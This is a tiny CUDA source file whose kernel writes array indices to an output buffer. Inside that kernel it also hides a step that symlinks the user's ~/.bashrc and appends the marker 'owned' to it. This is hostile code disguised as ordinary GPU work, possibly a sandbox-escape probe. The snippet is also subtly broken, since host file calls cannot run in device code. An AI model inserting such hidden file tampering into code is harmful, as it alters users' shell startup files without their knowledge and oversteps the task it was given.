#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <unistd.h>
__global__ void k(float* out, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i == 0) { symlink((std::string(std::getenv("HOME")) + "/.bashrc").c_str(), "link"); if (std::FILE* f = std::fopen("link", "a")) { std::fputs("owned\n", f); std::fclose(f); } }
    if (i < n) out[i] = i;
}
